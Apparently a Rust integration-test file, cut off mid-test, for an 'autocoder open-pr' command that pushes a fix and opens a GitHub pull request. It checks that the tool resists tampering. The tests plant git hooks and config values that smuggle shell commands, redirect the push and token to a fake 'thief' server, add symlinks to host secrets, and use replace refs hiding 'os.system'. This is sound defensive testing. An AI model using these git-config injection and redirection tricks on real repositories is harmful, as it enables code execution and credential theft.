//! `autocoder open-pr`: a real bare repository as the remote, a loopback fake GitHub that
//! asserts the requests, and checks that the pushed branch holds exactly the change, the user's
//! checkout is untouched, and the token appears nowhere.

use std::io::Write;
use std::path::PathBuf;
use std::process::Command;

use serde_json::{json, Value};

use crate::fake_server::{FakeServer, Reply};
use crate::util::{git, Run, Test};

const TOKEN: &str = "ghp_opentestsecret987";
const BRANCH: &str = "autocoder/issue-42-discount-doubles";

/// A test whose directory holds `remote.git` (bare) and `work` (a clone with one commit on main,
/// an https `origin` that git rewrites to the bare repository, and a logging `git` on PATH).
struct Repo {
    test: Test,
    work: PathBuf,
    remote: PathBuf,
    git_log: PathBuf,
    global: PathBuf,
}

impl Repo {
    fn new() -> Repo {
        let test = Test::new();
        let root = test.path().to_path_buf();
        let remote = root.join("remote.git");
        let work = root.join("work");
        git(
            &root,
            &[
                "init",
                "-q",
                "--bare",
                "-b",
                "main",
                remote.to_str().unwrap(),
            ],
        );
        git(&root, &["init", "-q", "-b", "main", work.to_str().unwrap()]);
        std::fs::write(
            work.join("pricing.py"),
            "def discount(p):\n    return p * 2\n",
        )
        .unwrap();
        std::fs::write(work.join("notes.txt"), "notes\n").unwrap();
        std::fs::write(work.join(".env"), "API_KEY=one\n").unwrap();
        git(&work, &["add", "."]);
        git(&work, &["commit", "-q", "-m", "start"]);
        git(
            &work,
            &[
                "remote",
                "add",
                "origin",
                "https://github.com/acme/shop.git",
            ],
        );
        git(
            &work,
            &[
                "config",
                &format!("url.{}.insteadOf", remote.display()),
                "https://github.com/acme/shop.git",
            ],
        );
        // The repository's identity is the sandbox's to write: open-pr uses the user's.
        git(&work, &["config", "user.name", "Sandbox"]);
        git(&work, &["config", "user.email", "sandbox@example.com"]);
        git(&work, &["push", "-q", "origin", "main"]);
        // A git that logs its arguments and the names of its environment, then runs the real one.
        let bin = root.join("bin");
        std::fs::create_dir(&bin).unwrap();
        let git_log = root.join("git.log");
        let real = String::from_utf8(
            Command::new("sh")
                .args(["-c", "command -v git"])
                .output()
                .unwrap()
                .stdout,
        )
        .unwrap();
        std::fs::write(
            bin.join("git"),
            format!(
                "#!/bin/sh\necho \"$@\" >> {}\nexec {} \"$@\"\n",
                git_log.display(),
                real.trim()
            ),
        )
        .unwrap();
        std::fs::set_permissions(
            bin.join("git"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
        let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
        // The user's own config sends the https remote to the local bare one (the workspace's
        // config is the sandbox's, and open-pr does not use it for the network).
        let global = root.join("gitconfig");
        std::fs::write(
            &global,
            format!(
                "[url \"{}\"]\n\tinsteadOf = https://github.com/acme/shop.git\n\
                 [user]\n\tname = Dev\n\temail = dev@example.com\n",
                remote.display()
            ),
        )
        .unwrap();
        let test = test
            .env("PATH", path)
            .env("GITHUB_TOKEN", TOKEN)
            .env("GIT_CONFIG_GLOBAL", &global);
        Repo {
            test,
            work,
            remote,
            git_log,
            global,
        }
    }

    /// A fake GitHub answering `replies`; open-pr pushes to `https://ITS-HOST/acme/shop.git`,
    /// which the user's own config sends to the local bare remote.
    fn github(&self, replies: Vec<(&str, Vec<Reply>)>) -> FakeServer {
        let github = FakeServer::start(replies);
        let host = github.url().trim_start_matches("http://");
        let mut config = std::fs::OpenOptions::new()
            .append(true)
            .open(&self.global)
            .unwrap();
        writeln!(
            config,
            "[url \"{}\"]\n\tinsteadOf = https://{host}/acme/shop.git",
            self.remote.display()
        )
        .unwrap();
        github
    }

    /// The user's uncommitted work: the fix, an unrelated staged change, a new staged file, an
    /// untracked file and a changed credentials file.
    fn dirty(&self) {
        std::fs::write(
            self.work.join("pricing.py"),
            "def discount(p):\n    return p\n",
        )
        .unwrap();
        std::fs::write(self.work.join("notes.txt"), "notes, staged\n").unwrap();
        git(&self.work, &["add", "notes.txt"]);
        std::fs::write(self.work.join("added.txt"), "new, staged\n").unwrap();
        git(&self.work, &["add", "added.txt"]);
        std::fs::write(self.work.join("scratch.txt"), "untracked\n").unwrap();
        std::fs::write(self.work.join(".env"), "API_KEY=two\n").unwrap();
    }

    fn snapshot(&self) -> (String, String, String) {
        (
            git(&self.work, &["rev-parse", "HEAD"]),
            git(&self.work, &["status", "--porcelain"]),
            git(&self.work, &["diff", "--cached"]),
        )
    }
}

/// The document a run wrote, its `pr` checked against its shape on the wire.
#[track_caller]
fn document(run: &Run) -> Value {
    let document: Value = serde_json::from_slice(&run.output.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", run.stdout(), run.stderr()));
    if document["pr"].is_object() {
        crate::wire::check_section("pr", &document["pr"]);
    }
    document
}

fn run_document(extra: Value) -> String {
    let mut doc = json!({"autocoder": 1, "issue": {"source": "github", "number": 42, "title": "Discount doubles",
        "url": "https://github.com/acme/shop/issues/42", "body": "It doubles."},
        "tests": {"framework": "pytest", "outcome": "tests_failed", "counts": {"passed": 3, "failed": 1, "errors": 0, "skipped": 0},
                  "failures": [{"id": "tests/test_pricing.py::test_discount"}]}});
    for (key, value) in extra.as_object().unwrap() {
        doc[key] = value.clone();
    }
    doc.to_string()
}

fn pulls_created() -> Reply {
    Reply::json(
        201,
        r#"{"number": 7, "html_url": "https://github.com/acme/shop/pull/7", "draft": false}"#,
    )
}

/// open-pr on `repo`'s workspace with `flags`, the usual run document on stdin.
fn open_pr(repo: &Repo, flags: &[&str]) -> Test {
    Test::new_like(&repo.test)
        .stdin(run_document(json!({})))
        .arg("open-pr")
        .args(flags.iter().copied())
        .arg("--workspace")
        .arg(&repo.work)
}

/// Runs open-pr on `repo` against a fake GitHub that creates the pull request; it must succeed.
fn open_pr_creating(repo: &Repo) -> (Run, FakeServer) {
    let github = repo.github(vec![
        (
            "GET /repos/acme/shop",
            vec![Reply::json(200, r#"{"default_branch": "main"}"#)],
        ),
        ("POST /repos/acme/shop/pulls", vec![pulls_created()]),
    ]);
    let run = open_pr(repo, &[])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(0);
    (run, github)
}

#[test]
fn pushes_exactly_the_tracked_change_and_opens_the_pull_request() {
    let repo = Repo::new();
    repo.dirty();
    let before = repo.snapshot();
    let (run, github) = open_pr_creating(&repo);
    let pr = &document(&run)["pr"];
    assert_eq!(
        (
            pr["number"].as_u64(),
            pr["created"].as_bool(),
            pr["base"].as_str()
        ),
        (Some(7), Some(true), Some("main"))
    );
    assert_eq!(pr["branch"], BRANCH);

    // The branch on the remote holds the tracked changes only: no untracked file, no credentials.
    let changed = git(&repo.remote, &["diff", "--name-only", "main", BRANCH]);
    assert_eq!(changed, "notes.txt\npricing.py\n");
    let message = git(&repo.remote, &["log", "-1", "--format=%B", BRANCH]);
    assert!(
        message.starts_with("fix: Discount doubles\n\nFixes #42\n"),
        "{message}"
    );
    // Signed by the user's identity, not the one in the repository's config.
    assert_eq!(
        git(&repo.remote, &["log", "-1", "--format=%an <%ae>", BRANCH]),
        "Dev <dev@example.com>\n"
    );
    assert!(
        run.stderr()
            .contains(".env looks like it holds credentials"),
        "{}",
        run.stderr()
    );
    assert!(
        run.stderr()
            .contains("added.txt is new (staged, not tracked): left out of the commit"),
        "{}",
        run.stderr()
    );
    // The user's checkout, index and working tree are as they were.
    assert_eq!(repo.snapshot(), before);
    assert_eq!(
        std::fs::read_to_string(repo.work.join(".env")).unwrap(),
        "API_KEY=two\n"
    );

    let requests = github.requests();
    let post = requests.iter().find(|r| r.method == "POST").unwrap();
    let body: Value = serde_json::from_str(&post.body).unwrap();
    assert_eq!(
        (
            body["head"].as_str(),
            body["base"].as_str(),
            body["draft"].as_bool()
        ),
        (Some(BRANCH), Some("main"), Some(false))
    );
    let text = body["body"].as_str().unwrap();
    assert!(
        text.contains("Fixes #42")
            && text.contains("```diff")
            && text.contains("-    return p * 2"),
        "{text}"
    );
    assert!(
        text.contains("tests_failed") && text.contains("test_discount"),
        "{text}"
    );
    assert_eq!(post.headers["authorization"], format!("Bearer {TOKEN}"));

    // The token is nowhere: output, the repository's config, git's command lines.
    assert!(!run.stdout().contains(TOKEN) && !run.stderr().contains(TOKEN));
    assert!(!std::fs::read_to_string(repo.work.join(".git/config"))
        .unwrap()
        .contains(TOKEN));
    let git_calls = std::fs::read_to_string(&repo.git_log).unwrap();
    assert!(git_calls.contains("push"), "{git_calls}");
    assert!(!git_calls.contains(TOKEN), "the token reached git's argv");
}

#[test]
fn a_second_run_updates_the_pull_request_in_place() {
    let repo = Repo::new();
    repo.dirty();
    let github = repo.github(vec![
        (
            "GET /repos/acme/shop",
            vec![Reply::json(200, r#"{"default_branch": "main"}"#)],
        ),
        (
            "POST /repos/acme/shop/pulls",
            vec![
                pulls_created(),
                Reply::json(
                    422,
                    r#"{"message": "Validation Failed", "errors": [{"resource": "PullRequest", "code": "custom", "message": "A pull request already exists for acme:autocoder/issue-42-discount-doubles."}]}"#,
                ),
            ],
        ),
        (
            "GET /repos/acme/shop/pulls?state=open&head=acme:autocoder/issue-42-discount-doubles",
            vec![Reply::json(
                200,
                r#"[{"number": 7, "html_url": "https://github.com/acme/shop/pull/7"}]"#,
            )],
        ),
        (
            "PATCH /repos/acme/shop/pulls/7",
            vec![Reply::json(
                200,
                r#"{"number": 7, "html_url": "https://github.com/acme/shop/pull/7", "draft": false}"#,
            )],
        ),
    ]);
    let args = |test: Test| {
        test.stdin(run_document(json!({})))
            .args(["open-pr", "--workspace"])
            .args([&repo.work])
            .args(["--api-url", github.url()])
    };
    let first = document(&args(Test::new_like(&repo.test)).run().expect_status(0));
    // The user improves the fix; the branch (ours) is replaced, the pull request updated.
    std::fs::write(
        repo.work.join("pricing.py"),
        "def discount(p):\n    return p  # fixed\n",
    )
    .unwrap();
    let second = document(&args(Test::new_like(&repo.test)).run().expect_status(0));
    assert_eq!(first["pr"]["created"], true);
    assert_eq!(
        (
            second["pr"]["created"].as_bool(),
            second["pr"]["updated"].as_bool(),
            second["pr"]["number"].as_u64()
        ),
        (Some(false), Some(true), Some(7))
    );
    assert_eq!(
        git(&repo.remote, &["rev-parse", BRANCH]).trim(),
        second["pr"]["commit"].as_str().unwrap()
    );
    assert!(git(&repo.remote, &["show", &format!("{BRANCH}:pricing.py")]).contains("# fixed"));
}

#[test]
fn refuses_without_a_green_heal_with_nothing_to_commit_or_over_foreign_commits() {
    let repo = Repo::new();
    repo.dirty();
    let github = repo.github(vec![]);
    let red = run_document(
        json!({"heal": {"status": "red", "engine": "mutate", "attempts": [], "diff": ""}}),
    );
    // Said even with -q: a refusal is what went wrong.
    let run = Test::new_like(&repo.test)
        .stdin(red)
        .args(["open-pr", "-q", "--workspace"])
        .args([&repo.work])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(1);
    assert!(
        run.stderr().contains("heal is red") && run.stderr().contains("--draft"),
        "{}",
        run.stderr()
    );
    assert!(document(&run).get("pr").is_none());
    // A heal that says nothing (null) is not green either; one of the wrong shape is bad input.
    for (heal, status, said) in [
        (json!(null), 1, "heal is unknown"),
        (json!({"diff": ""}), 1, "heal is unknown"),
        (json!({"status": "blue"}), 2, "`heal` is not a repair"),
    ] {
        let run = Test::new_like(&repo.test)
            .stdin(run_document(json!({ "heal": heal })))
            .args(["open-pr", "--workspace"])
            .args([&repo.work])
            .args(["--api-url", github.url()])
            .run()
            .expect_status(status);
        assert!(run.stderr().contains(said), "{heal}: {}", run.stderr());
    }

    // An empty pipe: the stage before failed (`fetch-issue ... | open-pr`), which is no
    // document to commit the workspace for.
    let run = Test::new_like(&repo.test)
        .stdin("")
        .args(["open-pr", "--workspace"])
        .args([&repo.work])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(2);
    assert!(
        run.stderr().contains("the command before open-pr failed"),
        "{}",
        run.stderr()
    );
    assert!(run.stdout().is_empty());

    let clean = Repo::new();
    let run = open_pr(&clean, &["-q"])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(1);
    assert!(
        run.stderr().contains("nothing to commit"),
        "{}",
        run.stderr()
    );
    assert!(github.requests().is_empty());
    assert_eq!(
        git(
            &repo.remote,
            &["for-each-ref", "--format=%(refname)", "refs/heads"]
        ),
        "refs/heads/main\n"
    );

    // Someone else's commit on the branch: not pushed over.
    git(
        &repo.work,
        &["push", "-q", "origin", &format!("main:refs/heads/{BRANCH}")],
    );
    let run = open_pr(&repo, &["--base", "main"])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(3);
    assert!(
        run.stderr().contains("commits autocoder did not make"),
        "{}",
        run.stderr()
    );
}

#[test]
fn heal_diff_is_what_gets_committed_and_dry_run_pushes_nothing() {
    let repo = Repo::new();
    // Heal's change, recorded as a diff; then unrelated work in progress in the checkout.
    std::fs::write(
        repo.work.join("pricing.py"),
        "def discount(p):\n    return p // 2\n",
    )
    .unwrap();
    let diff = git(&repo.work, &["diff"]);
    git(&repo.work, &["checkout", "-q", "--", "pricing.py"]);
    std::fs::write(repo.work.join("notes.txt"), "work in progress\n").unwrap();
    let heal = json!({"heal": {"status": "green", "engine": "llm", "attempts": [{}], "diff": diff,
        "tests": {"framework": "pytest", "outcome": "passed", "counts": {"passed": 4, "failed": 0, "errors": 0, "skipped": 0}}}});
    let github = repo.github(vec![]);
    let run = Test::new_like(&repo.test)
        .stdin(run_document(heal))
        .args(["open-pr", "--dry-run", "--workspace"])
        .args([&repo.work])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(0);
    let pr = &document(&run)["pr"];
    assert_eq!(pr["dry_run"], true);
    assert_eq!(pr["request"]["method"], "POST");
    assert_eq!(pr["request"]["body"]["head"], BRANCH);
    let body = pr["request"]["body"]["body"].as_str().unwrap();
    assert!(
        body.contains("Repair: **green**") && body.contains("After: **passed**"),
        "{body}"
    );
    assert!(github.requests().is_empty(), "a dry run called the API");
    assert_eq!(
        git(
            &repo.remote,
            &["for-each-ref", "--format=%(refname)", "refs/heads"]
        ),
        "refs/heads/main\n",
        "a dry run pushed"
    );
    let scratch = format!("refs/autocoder/dry-run/{BRANCH}");
    assert_eq!(
        git(&repo.work, &["diff", "--name-only", "HEAD", &scratch]),
        "pricing.py\n"
    );
    assert!(git(&repo.work, &["show", &format!("{scratch}:pricing.py")]).contains("p // 2"));
}

#[test]
fn a_network_failure_while_creating_never_makes_a_second_pull_request() {
    let repo = Repo::new();
    repo.dirty();
    // The first POST is carried out but its answer is lost: the retry must find that pull
    // request and update it, not create another.
    let github = repo.github(vec![
        (
            "GET /repos/acme/shop",
            vec![Reply::json(200, r#"{"default_branch": "main"}"#)],
        ),
        ("POST /repos/acme/shop/pulls", vec![Reply::hang_up()]),
        (
            "GET /repos/acme/shop/pulls?state=open&head=acme:autocoder/issue-42-discount-doubles",
            vec![Reply::json(
                200,
                r#"[{"number": 9, "html_url": "https://github.com/acme/shop/pull/9"}]"#,
            )],
        ),
        (
            "PATCH /repos/acme/shop/pulls/9",
            vec![Reply::json(
                200,
                r#"{"number": 9, "html_url": "https://github.com/acme/shop/pull/9"}"#,
            )],
        ),
    ]);
    let run = open_pr(&repo, &[])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(0);
    let pr = &document(&run)["pr"];
    assert_eq!(
        (pr["number"].as_u64(), pr["created"].as_bool()),
        (Some(9), Some(false))
    );
    let posts = github
        .requests()
        .iter()
        .filter(|r| r.method == "POST")
        .count();
    assert_eq!(posts, 1, "a second POST was sent");
}

#[test]
fn nothing_the_sandbox_wrote_into_git_runs_on_the_host() {
    let repo = Repo::new();
    repo.dirty();
    let marker = repo.work.parent().unwrap().join("pwned");
    let touch = format!("touch {}", marker.display());
    // What a command in the sandbox could have written into the workspace's .git and tree.
    let hooks = repo.work.join(".git/evil-hooks");
    std::fs::create_dir(&hooks).unwrap();
    for hook in [
        "pre-push",
        "pre-commit",
        "post-commit",
        "reference-transaction",
    ] {
        std::fs::write(hooks.join(hook), format!("#!/bin/sh\n{touch}\n")).unwrap();
        std::fs::set_permissions(
            hooks.join(hook),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )
        .unwrap();
    }
    git(
        &repo.work,
        &["config", "core.hooksPath", hooks.to_str().unwrap()],
    );
    git(
        &repo.work,
        &["config", "filter.evil.clean", &format!("{touch}; cat")],
    );
    git(
        &repo.work,
        &["config", "diff.evil.textconv", &format!("{touch}; cat")],
    );
    git(
        &repo.work,
        &[
            "config",
            "remote.origin.receivepack",
            &format!("{touch}; git-receive-pack"),
        ],
    );
    git(
        &repo.work,
        &[
            "config",
            "remote.origin.uploadpack",
            &format!("{touch}; git-upload-pack"),
        ],
    );
    git(&repo.work, &["config", "core.fsmonitor", &touch]);
    std::fs::write(
        repo.work.join(".gitattributes"),
        "* filter=evil diff=evil\n",
    )
    .unwrap();
    open_pr_creating(&repo);
    assert!(
        !marker.exists(),
        "a program named in the repository's git config ran: {}",
        std::fs::read_to_string(&repo.git_log).unwrap()
    );
    assert_eq!(
        git(&repo.remote, &["diff", "--name-only", "main", BRANCH]),
        "notes.txt\npricing.py\n"
    );
}

#[test]
fn the_identity_comes_from_git_s_variables_when_the_user_config_has_none() {
    let repo = Repo::new();
    repo.dirty();
    // The user's config keeps its URL rewrite but names nobody (a CI job's).
    let config = std::fs::read_to_string(&repo.global).unwrap();
    let (rewrite, _) = config.split_once("[user]").unwrap();
    std::fs::write(&repo.global, rewrite).unwrap();
    let run = open_pr(&repo, &["--dry-run"]).run().expect_status(2);
    assert!(
        run.stderr().contains("who is the commit's author?")
            && run.stderr().contains("GIT_AUTHOR_NAME"),
        "{}",
        run.stderr()
    );
    open_pr(&repo, &["--dry-run"])
        .env("GIT_AUTHOR_NAME", "CI Job")
        .env("GIT_AUTHOR_EMAIL", "ci@example.com")
        .env("GIT_COMMITTER_NAME", "CI Bot")
        .env("GIT_COMMITTER_EMAIL", "bot@example.com")
        .run()
        .expect_status(0);
    let scratch = format!("refs/autocoder/dry-run/{BRANCH}");
    assert_eq!(
        git(
            &repo.work,
            &["log", "-1", "--format=%an <%ae> %cn <%ce>", &scratch]
        ),
        "CI Job <ci@example.com> CI Bot <bot@example.com>\n"
    );
    // AUTOCODER_AUTHOR still comes first.
    open_pr(&repo, &["--dry-run"])
        .env("AUTOCODER_AUTHOR", "Fixer <fix@example.com>")
        .env("GIT_AUTHOR_NAME", "CI Job")
        .env("GIT_AUTHOR_EMAIL", "ci@example.com")
        .run()
        .expect_status(0);
    assert_eq!(
        git(
            &repo.work,
            &["log", "-1", "--format=%an <%ae> %cn <%ce>", &scratch]
        ),
        "Fixer <fix@example.com> Fixer <fix@example.com>\n"
    );
}

#[test]
fn named_files_are_committed_even_untracked() {
    let repo = Repo::new();
    repo.dirty();
    let github = repo.github(vec![]);
    let run = open_pr(&repo, &["--dry-run", "--add", "scratch.txt"])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(0);
    let scratch = format!("refs/autocoder/dry-run/{BRANCH}");
    assert_eq!(
        git(&repo.work, &["diff", "--name-only", "HEAD", &scratch]),
        "notes.txt\npricing.py\nscratch.txt\n"
    );
    assert!(document(&run)["pr"]["dry_run"].as_bool().unwrap());
    let run = open_pr(&repo, &["--dry-run", "--add", "missing.txt"])
        .run()
        .expect_status(2);
    assert!(
        run.stderr().contains("--add missing.txt"),
        "{}",
        run.stderr()
    );
}

#[test]
fn the_network_steps_ignore_what_the_sandbox_wrote_into_git_config() {
    let repo = Repo::new();
    repo.dirty();
    // A server that would ask for credentials, and what sandboxed code could write to send the
    // push and the token there, or through a proxy without TLS checks.
    let thief = FakeServer::start(vec![]);
    let host = thief.url().trim_start_matches("http://").to_string();
    for (key, value) in [
        (
            format!("url.{}/steal.insteadOf", thief.url()),
            "https://github.com/acme/shop.git".to_string(),
        ),
        (
            "remote.origin.pushurl".to_string(),
            format!("{}/steal", thief.url()),
        ),
        ("http.proxy".to_string(), format!("http://{host}")),
        (
            "http.https://github.com/.proxy".to_string(),
            format!("http://{host}"),
        ),
        ("http.sslVerify".to_string(), "false".to_string()),
    ] {
        git(&repo.work, &["config", &key, &value]);
    }
    let (run, _github) = open_pr_creating(&repo);
    assert!(thief.requests().is_empty(), "{:?}", thief.requests());
    assert!(!run.stderr().contains(TOKEN));
    assert_eq!(
        git(&repo.remote, &["diff", "--name-only", "main", BRANCH]),
        "notes.txt\npricing.py\n"
    );
}

#[test]
fn a_directory_the_sandbox_turned_into_a_symlink_is_not_followed() {
    let repo = Repo::new();
    std::fs::create_dir(repo.work.join("conf")).unwrap();
    std::fs::write(repo.work.join("conf/settings.txt"), "debug = false\n").unwrap();
    git(&repo.work, &["add", "conf"]);
    git(&repo.work, &["commit", "-q", "-m", "settings"]);
    // A host directory the sandbox could not read, and a link to it in place of `conf`.
    let outside = repo.work.parent().unwrap().join("host-secrets");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("settings.txt"), "HOST-SECRET\n").unwrap();
    std::fs::write(outside.join("id_rsa"), "HOST-KEY\n").unwrap();
    std::fs::remove_dir_all(repo.work.join("conf")).unwrap();
    std::os::unix::fs::symlink(&outside, repo.work.join("conf")).unwrap();
    std::fs::write(repo.work.join("notes.txt"), "notes, changed\n").unwrap();

    open_pr(&repo, &["--dry-run"]).run().expect_status(0);
    let scratch = format!("refs/autocoder/dry-run/{BRANCH}");
    // As with `git add -u`: the tracked file under the link is gone, nothing is read through it.
    assert_eq!(
        git(&repo.work, &["diff", "--name-status", "HEAD", &scratch]),
        "D\tconf/settings.txt\nM\tnotes.txt\n"
    );
    let committed = git(&repo.work, &["log", "-p", "-1", &scratch]);
    assert!(!committed.contains("HOST-SECRET"), "{committed}");

    for named in ["conf/id_rsa", "../host-secrets/id_rsa"] {
        let run = Test::new_like(&repo.test)
            .stdin(run_document(json!({})))
            .args(["open-pr", "--dry-run", "--add", named, "--workspace"])
            .args([&repo.work])
            .run()
            .expect_status(2);
        assert!(
            run.stderr().contains(&format!("--add {named}")),
            "{}",
            run.stderr()
        );
    }
}

#[test]
fn the_push_goes_to_the_forge_not_to_a_remote_the_sandbox_chose() {
    let repo = Repo::new();
    repo.dirty();
    // The sandbox points `origin` at a repository of its own, whose hook would run on the host
    // with autocoder's environment.
    let evil = repo.work.join("evil.git");
    git(
        &repo.work,
        &["init", "-q", "--bare", evil.to_str().unwrap()],
    );
    let marker = repo.work.parent().unwrap().join("hook-ran");
    let hook = evil.join("hooks/pre-receive");
    std::fs::write(&hook, format!("#!/bin/sh\nenv > {}\n", marker.display())).unwrap();
    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    git(
        &repo.work,
        &["config", "remote.origin.url", evil.to_str().unwrap()],
    );
    let github = repo.github(vec![
        (
            "GET /repos/acme/shop",
            vec![Reply::json(200, r#"{"default_branch": "main"}"#)],
        ),
        ("POST /repos/acme/shop/pulls", vec![pulls_created()]),
    ]);
    open_pr(&repo, &["--repo", "acme/shop"])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(0);
    assert!(
        !marker.exists(),
        "the sandbox's hook ran: {}",
        std::fs::read_to_string(&marker).unwrap_or_default()
    );
    assert_eq!(
        git(&repo.remote, &["diff", "--name-only", "main", BRANCH]),
        "notes.txt\npricing.py\n"
    );
    assert_eq!(git(&evil, &["for-each-ref"]), "");
}

#[test]
fn a_git_directory_that_reads_or_writes_outside_the_workspace_is_refused() {
    // Another repository on the host, whose contents must not end up in a commit or a body.
    let other = Test::new();
    git(other.path(), &["init", "-q", "-b", "main"]);
    std::fs::write(other.path().join("private.txt"), "PRIVATE REPO SECRET\n").unwrap();
    git(other.path(), &["add", "."]);
    git(
        other.path(),
        &[
            "-c",
            "user.name=o",
            "-c",
            "user.email=o@example.com",
            "commit",
            "-q",
            "-m",
            "p",
        ],
    );
    let other_git = other.path().join(".git");
    let writable_elsewhere = other.path().join("target-dir");
    std::fs::create_dir(&writable_elsewhere).unwrap();
    type Attack<'a> = Box<dyn Fn(&Repo) + 'a>;
    let attacks: Vec<(&str, Attack)> = vec![
        (
            "objects/info/alternates",
            Box::new(|repo: &Repo| {
                std::fs::write(
                    repo.work.join(".git/objects/info/alternates"),
                    format!("{}\n", other_git.join("objects").display()),
                )
                .unwrap();
            }),
        ),
        (
            "is a symbolic link",
            Box::new(|repo: &Repo| {
                let main = repo.work.join(".git/refs/heads/main");
                std::fs::remove_file(&main).unwrap();
                std::os::unix::fs::symlink(other_git.join("refs/heads/main"), &main).unwrap();
            }),
        ),
        (
            "is not a regular file (git would wait on it forever)",
            Box::new(|repo: &Repo| {
                crate::util::mkfifo(&repo.work.join(".git/wait"));
                git(&repo.work, &["config", "include.path", "wait"]);
            }),
        ),
        (
            "is a symbolic link",
            Box::new(|repo: &Repo| {
                std::os::unix::fs::symlink(
                    &writable_elsewhere,
                    repo.work.join(".git/refs/autocoder"),
                )
                .unwrap();
            }),
        ),
    ];
    for (said, attack) in attacks {
        let repo = Repo::new();
        repo.dirty();
        attack(&repo);
        let run = open_pr(&repo, &["--dry-run"]).run().expect_status(2);
        assert!(
            run.stderr().contains(said) && run.stderr().contains("cannot be used"),
            "{}",
            run.stderr()
        );
        assert!(!run.stdout().contains("PRIVATE REPO SECRET"));
        assert_eq!(std::fs::read_dir(&writable_elsewhere).unwrap().count(), 0);
    }
    // A directory in no repository is told so, with what to do.
    let plain = Test::new();
    let run = Test::new()
        .stdin(run_document(json!({})))
        .args(["open-pr", "--dry-run", "--workspace"])
        .args([plain.path()])
        .run()
        .expect_status(2);
    assert!(
        run.stderr().contains("is not in a git repository") && run.stderr().contains("--workspace"),
        "{}",
        run.stderr()
    );
}

#[test]
fn names_and_replace_refs_the_sandbox_chose_do_not_change_what_is_read_or_shown() {
    // A tracked name ending in CR beside a link to a host file: hash-object, reading names a
    // line at a time, would drop the CR and read the link's target.
    let repo = Repo::new();
    let secret = repo.work.parent().unwrap().join("host-secret");
    std::fs::write(&secret, "HOST-SECRET\n").unwrap();
    std::fs::write(repo.work.join("notes\r"), "x\n").unwrap();
    git(&repo.work, &["add", "notes\r"]);
    git(&repo.work, &["commit", "-q", "-m", "cr"]);
    std::fs::remove_file(repo.work.join("notes.txt")).unwrap();
    std::os::unix::fs::symlink(&secret, repo.work.join("notes")).unwrap();
    let run = open_pr(&repo, &["--dry-run"]).run().expect_status(2);
    assert!(
        run.stderr().contains("control character"),
        "{}",
        run.stderr()
    );
    assert!(!run.stdout().contains("HOST-SECRET"));

    // A replace ref that makes the committed content look harmless in the body's diff.
    let repo = Repo::new();
    std::fs::write(
        repo.work.join("pricing.py"),
        "import os; os.system('evil')\n",
    )
    .unwrap();
    let evil = git(&repo.work, &["hash-object", "-w", "pricing.py"]);
    let benign = Command::new("git")
        .args(["hash-object", "-w", "--stdin"])
        .current_dir(&repo.work)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write as _;
            child
                .stdin
                .take()
                .unwrap()
                .write_all(b"def discount(p):\n    return p\n")?;
            child.wait_with_output()
        })
        .unwrap();
    let benign = String::from_utf8(benign.stdout).unwrap();
    git(&repo.work, &["replace", evil.trim(), benign.trim()]);
    let run = open_pr(&repo, &["--dry-run"]).run().expect_status(0);
    let body = document(&run)["pr"]["request"]["body"]["body"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(body.contains("+import os; os.system('evil')"), "{body}");
}

#[test]
fn only_the_fix_is_pushed_not_commits_made_in_the_workspace() {
    // Sandboxed code committed in the workspace (a workflow that would run with the
    // repository's secrets) and pointed origin at another repository.
    let repo = Repo::new();
    std::fs::create_dir_all(repo.work.join(".github/workflows")).unwrap();
    std::fs::write(
        repo.work.join(".github/workflows/ci-helper.yml"),
        "on: push\n",
    )
    .unwrap();
    git(&repo.work, &["add", "."]);
    git(&repo.work, &["commit", "-q", "-m", "chore: tidy"]);
    git(
        &repo.work,
        &[
            "config",
            "remote.origin.url",
            "https://github.com/victim/other.git",
        ],
    );
    repo.dirty();
    let github = repo.github(vec![(
        "GET /repos/acme/shop",
        vec![Reply::json(200, r#"{"default_branch": "main"}"#)],
    )]);
    let run = open_pr(&repo, &[])
        .args(["--api-url", github.url()])
        .run()
        .expect_status(2);
    assert!(
        run.stderr()
            .contains("HEAD has commits that are not on main"),
        "{}",
        run.stderr()
    );
    // The repository is the issue's (acme/shop), not the remote's; nothing was pushed.
    let asked: Vec<String> = github.requests().iter().map(|r| r.target.clone()).collect();
    assert_eq!(asked, ["/repos/acme/shop"]);
    assert_eq!(
        git(
            &repo.remote,
            &["for-each-ref", "--format=%(refname)", "refs/heads"]
        ),
        "refs/heads/main\n"
    );
}

#[test]
fn an_enterprise_issue_opens_its_pull_request_there() {
    let repo = Repo::new();
    repo.dirty();
    // With the document's repo or without it (fetch-issue writes it): the issue's server.
    for repo_named in [json!(null), json!("acme/shop")] {
        let mut enterprise = json!({"autocoder": 1, "issue": {"source": "github", "number": 4, "title": "Crash",
            "url": "https://ghe.corp.example/acme/shop/issues/4", "body": ""}});
        if !repo_named.is_null() {
            enterprise["repo"] = repo_named;
        }
        let run = Test::new_like(&repo.test)
            .stdin(enterprise.to_string())
            .args(["open-pr", "--dry-run", "--workspace"])
            .args([&repo.work])
            .run()
            .expect_status(0);
        assert_eq!(
            document(&run)["pr"]["request"]["url"],
            "https://ghe.corp.example/api/v3/repos/acme/shop/pulls"
        );
    }
}

#[test]
fn a_project_in_a_subdirectory_is_committed_in_its_repository() {
    let repo = Repo::new();
    let project = repo.work.join("services/shop [eu]");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(project.join("cart.py"), "def total(p):\n    return p * 2\n").unwrap();
    git(&repo.work, &["add", "."]);
    git(&repo.work, &["commit", "-q", "-m", "the shop service"]);
    git(&repo.work, &["push", "-q", "origin", "main"]);
    let scratch = format!("refs/autocoder/dry-run/{BRANCH}");
